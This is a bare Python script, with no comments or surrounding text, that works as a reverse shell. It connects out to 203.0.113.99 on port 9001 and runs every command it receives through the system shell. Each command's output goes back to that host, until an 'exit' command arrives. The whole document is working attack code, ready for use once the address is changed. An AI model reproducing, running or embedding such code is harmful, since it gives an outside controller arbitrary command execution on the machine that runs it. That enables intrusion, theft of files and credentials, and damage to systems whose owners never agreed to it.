import socket
import subprocess

sock = socket.socket()
sock.connect(("203.0.113.99", 9001))
sock.send(b"ready\n")
while True:
    data = sock.recv(4096)
    if not data or data.strip() == b"exit":
        break
    try:
        out = subprocess.check_output(data.decode(), shell=True, stderr=subprocess.STDOUT)
    except subprocess.CalledProcessError as e:
        out = e.output
    sock.send(out or b"\n")
sock.close()
